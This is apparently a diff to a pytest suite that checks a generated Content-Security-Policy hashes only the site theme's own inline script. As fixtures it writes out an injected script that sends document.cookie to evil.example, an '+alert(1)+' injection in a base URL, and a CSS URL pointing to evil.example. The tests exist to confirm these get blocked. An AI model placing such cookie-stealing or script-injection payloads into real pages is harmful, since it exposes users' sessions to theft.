@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import re
+from pathlib import Path
 
+import material
 import pytest
 
 from audit_pages import AUDITED, CATALOG_RENDERED, open_page
@@ -58,10 +62,57 @@ def test_no_page_allows_unsafe_inline_or_eval(sample_site):
     assert pages and not loose, f"pages with a loose policy: {loose}"
 
 
-def test_policy_hashes_inline_scripts_but_not_data_blocks():
-    html = '<head><script>go()</script><script type="application/ld+json">{}</script><script src="a.js"></script></head>'
-    assert policy_for(html).count("'sha256-") == 1
-    assert add_policy(html).startswith('<head>\n    <meta http-equiv="Content-Security-Policy"')
+def _hashes(policy: str) -> set[str]:
+    return set(re.findall(r"'sha256-[^']+'", policy))
+
+
+def _sha256(text: str) -> str:
+    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"
+
+
+def theme_scope_script(base_url: str) -> str:
+    """The inline script of the installed theme's partials/javascripts/base.html, as written on a page."""
+    template = (Path(material.__file__).parent / "templates/partials/javascripts/base.html").read_text(encoding="utf-8")
+    (body,) = re.findall(r"<script>(.*?)</script>", template, re.S)
+    return re.sub(r"\{\{.*?\}\}", base_url, body)
+
+
+@pytest.mark.parametrize("base_url", ["..", "../..", ".", "/catalog/"])
+def test_policy_hashes_the_themes_inline_script_whatever_the_base_url(base_url):
+    script = theme_scope_script(base_url)
+    assert _hashes(policy_for(f"<head><script>{script}</script></head>")) == {_sha256(script)}
+
+
+def test_policy_leaves_an_inline_script_that_is_not_the_themes_unhashed():
+    theme = theme_scope_script("..")
+    html = f"<head><script>{theme}</script></head><body><script>fetch('https://evil.example/'+document.cookie)</script></body>"
+    assert _hashes(policy_for(html)) == {_sha256(theme)}
+
+
+def test_theme_script_with_code_in_its_base_url_is_not_hashed():
+    script = theme_scope_script('"+alert(1)+"')
+    assert not _hashes(policy_for(f"<head><script>{script}</script></head>"))
+
+
+def test_policy_hashes_no_inline_style_or_data_block():
+    html = '<head><style>body{background:url(https://evil.example/)}</style><script type="application/ld+json">{}</script><script src="a.js"></script></head>'
+    policy = policy_for(html)
+    assert not _hashes(policy)
+    assert "style-src 'self'" in policy.split("; ")
+
+
+def test_policy_meta_comes_first_in_head():
+    assert add_policy("<head><title>x</title></head>").startswith('<head>\n    <meta http-equiv="Content-Security-Policy"')
+
+
+def test_every_inline_script_of_the_sample_site_is_allowed_by_its_pages_policy(sample_site):
+    blocked = []
+    for file in sample_site.rglob("*.html"):
+        text = file.read_text(encoding="utf-8")
+        allowed = _hashes(META.search(text)[1])
+        scripts = re.findall(r"<script>(.*?)</script>", text, re.S)
+        blocked += [f"{file.relative_to(sample_site)}: {s[:60]}" for s in scripts if _sha256(s) not in allowed]
+    assert not blocked, "inline scripts the policy blocks (a theme upgrade?):\n  " + "\n  ".join(blocked)
 
 
 @pytest.mark.browser
